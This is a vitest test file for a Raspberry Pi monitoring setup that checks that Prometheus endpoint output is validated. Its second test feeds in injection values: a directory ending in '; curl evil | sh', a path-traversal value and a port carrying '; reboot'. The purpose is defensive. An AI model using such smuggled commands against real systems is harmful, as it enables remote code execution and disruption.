import { describe, expect, it } from "vitest";
import { MonitoringEndpointOutput, monitoringEndpointFromOutput, prometheusReloadCommand } from "./attachment";

const output: MonitoringEndpointOutput = {
    host: "192.168.1.10",
    port: 22,
    user: "pi",
    hostKey: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIASjxOTX4160vIyXmNHWZEQrRmaTEjgOfbSKNHYQH6R0",
    fileSdDir: "/srv/picloud/monitoring/prometheus/file_sd",
    rulesDir: "/srv/picloud/monitoring/prometheus/rules",
    dashboardsDir: "/srv/picloud/monitoring/grafana/dashboards",
    prometheusPort: 9090,
};

describe("monitoringEndpointFromOutput", () => {
    it("builds the reload command from its own code: the output carries data, never a command", () => {
        const endpoint = monitoringEndpointFromOutput(output, "key");
        expect(endpoint.reloadCommand).toBe(prometheusReloadCommand(9090));
        expect(endpoint.reloadCommand).toMatch(/^curl -fsS -X POST http:\/\/127\.0\.0\.1:9090\/-\/reload /);
        expect(Object.keys(output)).not.toContain("reloadCommand");
    });

    it("refuses an output whose folders or port would smuggle a command onto the monitoring Pi", () => {
        expect(() => monitoringEndpointFromOutput({ ...output, rulesDir: "/srv/x; curl evil | sh" }, "key")).toThrow(/monitoring output rulesDir: expected an absolute path/);
        expect(() => monitoringEndpointFromOutput({ ...output, fileSdDir: "/srv/../../etc" }, "key")).toThrow(/fileSdDir/);
        expect(() => monitoringEndpointFromOutput({ ...output, prometheusPort: "9090; reboot" as unknown as number }, "key")).toThrow(/Prometheus's port/);
    });
});
